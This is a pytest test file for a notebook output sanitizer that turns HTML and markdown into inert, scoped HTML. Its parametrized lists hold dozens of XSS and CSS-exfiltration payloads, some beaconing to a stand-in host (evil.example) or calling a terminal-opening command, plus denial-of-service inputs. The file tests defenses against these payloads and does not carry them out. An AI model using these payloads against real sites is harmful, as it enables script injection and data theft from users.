"""Html and markdown: what tables look like stays, what acts or fetches goes or is framed."""

from __future__ import annotations

import base64
import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest

from sandbox_kernel.outputs import OutputPolicy, html, markdown, styles

SAFE = OutputPolicy("safe")
PNG_URL = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def admit(text: str) -> str:
    return str(SAFE.admit_bundle({"text/html": text}, {})[0]["text/html"])


def is_framed(shown: str) -> bool:
    return 'sandbox="allow-scripts"' in shown


class Elements(HTMLParser):
    """All tags of a text, with their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


ACTIVE_ATTRIBUTES = re.compile(
    r"on|srcdoc|formaction|data-|name$|action|background$|ping|http-equiv"
)


def assert_inert(text: str) -> None:
    """Nothing in `text` runs, loads, or takes part in the page; whole frames are our own."""
    for tag, attributes in Elements(text).found:
        if tag == "iframe":
            assert attributes["sandbox"] == "allow-scripts"
            assert "src" not in attributes
            continue
        assert tag not in {
            "script",
            "object",
            "embed",
            "form",
            "input",
            "link",
            "meta",
            "base",
            "svg",
            "math",
        }
        for name, value in attributes.items():
            assert not ACTIVE_ATTRIBUTES.match(name), (tag, name)
            if name == "src":
                assert value is not None
                assert value.startswith("data:image/")
            if name == "href":
                assert re.match("https?://|mailto:", value or "")
                assert attributes["rel"] == "noopener noreferrer nofollow"
                assert attributes["target"] == "_blank"
            if name in {"id", "class"} and value:
                assert all(
                    re.match(
                        r"sk-|dataframe|row|col|level|data|blank|index_name|mathjax_ignore|tex2jax",
                        part,
                    )
                    for part in value.split()
                ), value
    assert not re.search(
        r"url\s*\(|expression|position\s*:|@import|behavior", outside_of_frames(text), re.I
    )


def outside_of_frames(text: str) -> str:
    return re.sub(r'srcdoc="[^"]*"', "", text)


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/terminals/1' ping='https://evil.example'>x</a>",
    "<b data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</b>",
    "<div id='jupyter-config-data' class='jp-Cell lm-Widget' name='cookie'>x</div>",
    "<img src='https://evil.example/?data'>",
    "<img src='//evil.example/?data'>",
    "<img srcset='https://evil.example/ 1x'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<table background='https://evil.example/'><td background='https://evil.example/'>x",
    "<b style='background: url(https://evil.example/)'>x</b>",
    "<b style='background: u\\72l(https://evil.example/)'>x</b>",
    "<b style='background: image-set(\"https://evil.example/\" 1x)'>x</b>",
    "<b style='position: fixed; top: 0; z-index: 9; width: 100vw'>x</b>",
    "<b style='margin: -1000px; color: red'>x</b>",
    "<b style='width: expression(alert(1))'>x</b>",
    "<style>* { display: none }</style>x",
    "<style>@import 'https://evil.example/';</style>x",
    "<style>b { background: url(https://evil.example/) }</style><b>x</b>",
    "<style>b{color:red}</style></style><script>alert(1)</script>",
    "<style>b{color:red;}</b}<script>alert(1)</script></style>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src=x>",
    "<video src='https://evil.example'></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</script>",
    "<div\x00 onclick=alert(1)>x</div>",
    "\ud800<b onclick=alert(1)>x",
    "<p>" * 3000,
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_inert_as_html(attack: str) -> None:
    assert_inert(admit(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_inert_as_markdown(attack: str) -> None:
    shown = SAFE.admit_bundle({"text/markdown": attack}, {})[0]
    assert "text/markdown" not in shown
    assert_inert(str(shown.get("text/html", "")))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<b>bold</b> &amp; <i>it</i>", "<b>bold</b> &amp; <i>it</i>"),
        ("a < b", "a &lt; b"),
        ("<b>1 &lt; 2</b>", "<b>1 &lt; 2</b>"),
        ("<font color='red'>x</font>", '<font color="red">x</font>'),
        ("<b style='color: red; zoom: 3'>x</b>", '<b style="color: red">x</b>'),
        (
            "<b style='background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)'>x</b>",
            '<b style="background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)">x</b>',
        ),
        ("<b style=\"font-family: 'Fira Code', monospace\">x</b>", None),
        ("<td>x</td>", "x"),
        (f'<img src="{PNG_URL}" alt="dot">', f'<img src="{PNG_URL}" alt="dot">'),
        ("turn on one = 1 switch", "turn on one = 1 switch"),
    ],
)
def test_harmless_html_keeps_its_look(text: str, shown: str | None) -> None:
    cleaned = admit(text)
    assert not is_framed(cleaned)
    if shown is not None:
        assert cleaned == shown


def test_links_to_the_web_stay_and_open_a_new_tab() -> None:
    shown = admit("<a href='https://example.org/?a=1&b=2' onclick2=x>x</a>")
    assert '<a href="https://example.org/?a=1&amp;b=2"' in shown
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_a_remote_picture_says_why_it_is_not_there() -> None:
    assert "a remote picture is not loaded" in admit("<p><img src='https://example.org/x.png'></p>")


def test_a_picture_bomb_in_a_data_url_is_not_shown() -> None:
    bomb = (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
        + (50_000).to_bytes(4, "big") * 2
        + b"\x08\x06\x00\x00\x00"
    )
    url = f"data:image/png;base64,{base64.b64encode(bomb).decode()}"
    assert url not in admit(f"<img src='{url}'>")


def test_a_pandas_table_keeps_its_look() -> None:
    pandas = pytest.importorskip("pandas")
    table = pandas.DataFrame({"name": ["<b>a</b>", "b"], "value": [1.5, 2]})
    shown = admit(table._repr_html_())
    assert not is_framed(shown)
    assert_inert(shown)
    assert '<table border="1" class="dataframe">' in shown
    assert '<tr style="text-align: right">' in shown
    assert "<td>&lt;b&gt;a&lt;/b&gt;</td>" in shown
    assert re.search(r"\.sk-scope-\w+ \.dataframe tbody tr th \{ vertical-align: top \}", shown)


def test_a_pandas_styler_keeps_its_colours() -> None:
    pandas = pytest.importorskip("pandas")
    pytest.importorskip("jinja2")
    pytest.importorskip("matplotlib")
    styler = pandas.DataFrame({"a": [1, 2], "b": [3, 4]}).style.background_gradient().bar("b")
    styler = styler.set_table_styles([{"selector": "th:hover", "props": "color: red"}]).set_caption(
        "c"
    )
    shown = admit(styler.to_html())
    assert not is_framed(shown)
    assert_inert(shown)
    cell = re.search(r'id="(sk-i-T_\w+_row0_col0)" class="data row0 col0"', shown)
    assert cell is not None
    assert re.search(rf"\.sk-scope-\w+ #{cell[1]}[^{{]*{{[^}}]*background-color: #fff7fb", shown)
    assert re.search(r"#sk-i-T_\w+ th:hover \{ color: red \}", shown)


def test_a_long_styler_is_cleaned_in_reasonable_time() -> None:
    rows = "".join(
        f'<tr><td id="T_r{i}" class="data row{i} col0">{i}</td></tr>' for i in range(5000)
    )
    css = "".join(f"#T_r{i} {{ background-color: #fff; }}" for i in range(5000))
    started_s = time.process_time()
    shown = admit(f"<style>{css}</style><table>{rows}</table>")
    assert not is_framed(shown)
    assert time.process_time() - started_s < 5


@pytest.mark.parametrize(
    "text",
    [
        # How Plotly, Altair, Bokeh and matplotlib's animations look.
        '<div><script type="text/javascript">window.PlotlyConfig = {};</script>'
        '<div id="p" class="plotly-graph-div"></div><script>Plotly.newPlot("p", [])</script></div>',
        '<div id="altair-viz-1"></div><script src="https://cdn.example/vega"></script>',
        '<button onclick="play()">play</button>',
        "<audio controls src='data:audio/wav;base64,AAAA'></audio>",
        "<style>@media print { b { color: red } }</style><b>x</b>",
        "<style>:root { --x: 1 }</style><b>x</b>",
        "<canvas></canvas>",
    ],
)
def test_what_needs_script_is_framed_whole(text: str) -> None:
    shown = admit(text)
    assert is_framed(shown)
    assert_inert(shown)
    assert base64.b64encode(text.encode()).decode() in shown


def test_a_frame_that_wants_the_network_says_that_it_has_none() -> None:
    assert "was not loaded" in admit('<script src="https://cdn.example/x.js"></script>')
    assert "was not loaded" not in admit("<script>1</script>")


def test_svg_in_html_becomes_a_picture() -> None:
    shown = admit("<b>x</b><svg width=5><svg></svg><circle r=2 /></svg><b>y</b>")
    assert re.fullmatch(
        r'<b>x</b><img src="data:image/svg\+xml;base64,[\w+/=]+" style="max-width: 100%"><b>y</b>',
        shown,
    )


def test_latex_in_html_and_markdown_loses_its_links() -> None:
    """JupyterLab typesets both."""
    for part in (
        r"$\href{javascript:alert(1)}{x}$",
        r"$\hr<!-- -->ef{x}{y}$",
        r"$\hr<wbr>ef{x}{y}$",
    ):
        assert not re.search(r"\\href", admit(f"<b>{part}</b>"))
        shown = SAFE.admit_bundle({"text/markdown": part}, {})[0]
        assert not re.search(r"\\href", str(shown))
    assert admit(r"<b>$\frac{1}{2}$</b>") == r"<b>$\frac{1}{2}$</b>"


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 400_000,
        "&" * 1_000_000,
        "<b x=1><p>" * 100_000,
        "<svg " * 300_000,
        "<style>" * 200_000,
        "<style>" + "/*" * 500_000 + "</style>",
        "<style>" + "}" + " " * 500_000 + "</style>",
        "<a onx " * 200_000,
        "<script src=" + " " * 1_000_000,
        "\\" * 1_000_000,
        "<a" + " a" * 500_000,
        "[" * 40_000,
        "![" * 20_000,
        "<!--" * 200_000,
    ],
    ids=lambda text: text[:12],
)
def test_no_text_takes_the_policy_long(text: str) -> None:
    started_s = time.process_time()
    for mime_type in ("text/html", "text/markdown", "text/latex", "image/svg+xml"):
        SAFE.admit_bundle({mime_type: text}, {})
    assert time.process_time() - started_s < 20


def test_html_over_the_bound_leaves_a_note() -> None:
    shown = SAFE.admit_bundle({"text/html": "x" * (html.MAX_HTML + 1)}, {})[0]
    assert shown == {"text/plain": "[text/html was not shown: it is too large]"}


PLAIN_MARKDOWN = [
    "**x**",
    "# Title\n\n- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "[a link](https://example.org/a_(b)?c=d&e=f) and https://example.org",
    "```python\nif a < 3:\n    print(a)\n```",
    "$e^{i \\pi} + 1 = 0$",
    'he said "hi"',
    "a<br>b H<sub>2</sub>O",
]


@pytest.mark.parametrize("text", PLAIN_MARKDOWN)
def test_plain_markdown_stays_markdown(text: str) -> None:
    assert SAFE.admit_bundle({"text/markdown": text}, {})[0] == {"text/markdown": text}


MARKDOWN_ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( <javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/?data)",
    "![x][y]\n\n[y]: https://evil.example/?data",
    "![y]\n\n[y]: https://evil.example/?data",
    "<javascript:alert(1)>",
    '[x](https://evil.example/$"onmouseover="alert(1)$)',
    'https://evil.example/$"onmouseover="alert(1)//$',
    '[x](https://evil.example/@@0@@) $"onmouseover="alert(1)$',
    '```python" onmouseover="alert(1)\nx\n```',
    '~~~$"onmouseover="alert(1)$\nx\n~~~',
    "```mermaid\ngraph TD; A-->B\n```",
    '[x](https://evil.example "$\\"onmouseover=\'alert(1)\'$")',
    '<b data-commandlinker-command="terminal:create-new">x</b>',
    "a\n\n<img src=x\nonerror=alert(1)>",
    "[x](//evil.example)",
    "[x](/terminals/1)",
    "[x](attachment:x)",
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_that_could_be_more_becomes_clean_html(attack: str) -> None:
    shown = SAFE.admit_bundle({"text/markdown": attack}, {})[0]
    assert list(shown) == ["text/html"]
    assert_inert(shown["text/html"])


def test_markdown_made_html_here_looks_like_markdown() -> None:
    table = "| a | b |\n|:--|--:|\n| 1 | `x<y>` |"
    text = f"# T\n\n{table}\n\n![dot]({PNG_URL})\n\n$a_1 + b_1$ ~~no~~ <i>y</i>\n"
    shown = SAFE.admit_bundle({"text/markdown": text}, {})[0]["text/html"]
    for part in (
        "<h1>T</h1>",
        '<td style="text-align: left">1</td>',
        "<code>x&lt;y&gt;</code>",
        PNG_URL,
        "$a_1 + b_1$",
    ):
        assert part in shown
    assert "<s>no</s>" in shown
    assert "<i>y</i>" in shown


def test_long_pictures_in_markdown_do_not_use_up_its_bound() -> None:
    text = f"![a]({PNG_URL})\n\n" * 500
    assert len(text) > 40_000
    shown = SAFE.admit_bundle({"text/markdown": text}, {})[0]["text/html"]
    assert shown.count("<img") == 500


def test_markdown_over_the_bound_is_shown_as_its_source() -> None:
    assert markdown.to_html("<b>" * 50_000).startswith("<pre>&lt;b&gt;")


@pytest.mark.parametrize(
    ("css", "scoped"),
    [
        ("b { color: red }", ".s b { color: red }"),
        ("#a .b > td:nth-child(2n+1), th:hover { color: red; position: fixed }", None),
        (
            "/* c */ .data { color: rgb(1, 2, 3) !important }",
            ".s .data { color: rgb(1, 2, 3) !important }",
        ),
        ("b { behavior: url(x) }", ""),
        ("", ""),
    ],
)
def test_rules_are_written_anew_below_their_scope(css: str, scoped: str | None) -> None:
    shown = styles.scope_block(css, "s")
    assert shown is not None
    if scoped is None:
        scoped = ".s #sk-i-a .sk-c-b > td:nth-child(2n+1), .s th:hover { color: red }"
    assert shown == scoped


@pytest.mark.parametrize(
    "css",
    [
        "@import 'x';",
        "@media print { b { color: red } }",
        "b { color: red",
        "b } c { color: red }",
        "b[title^=a] { color: red }",
        "b::after { content: 'x' }",
        "body:has(a) { color: red }",
        "\\62 { color: red }",
        "> b { color: red }",
        "<b { color: red }",
        ", b { color: red }",
        "{ color: red }",
    ],
)
def test_rules_that_are_not_understood_refuse_the_block(css: str) -> None:
    assert styles.scope_block(css, "s") is None


@pytest.mark.parametrize(
    "value",
    [
        "url(x)", "URL(x)", "u\\72l(x)", "image-set('x' 1x)", "element(#a)", "red; position: fixed",
        "rgb(1", ")(", "'a", "-5px", "1px -5px", "calc(1px) -5px", "a" * 600, "<b>",
        "attr(title url)",
        "env(x)", "cross-fade(a, b)", "red}", "{", "@x", "expression(1)",
    ],
)  # fmt: skip
def test_values_that_reach_further_are_refused(value: str) -> None:
    assert not styles.is_harmless_value(value)


@pytest.mark.parametrize(
    "value",
    ["red", "#fff", "1px solid rgba(0, 0, 0, .5)", "var(--jp-ui-font-color1)", "1em 2%", ""],
)
def test_values_that_draw_are_let_through(value: str) -> None:
    assert styles.is_harmless_value(value)


def test_scripts_are_no_longer_scripts_in_a_bundle_with_several_types() -> None:
    bundle: dict[str, Any] = {
        "text/html": "<b>own</b>",
        "text/markdown": "![x](https://evil.example)",
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>",
    }
    for order in (list(bundle), list(reversed(bundle))):
        shown = SAFE.admit_bundle({key: bundle[key] for key in order}, {})[0]
        assert shown == {"text/html": "<b>own</b>"}
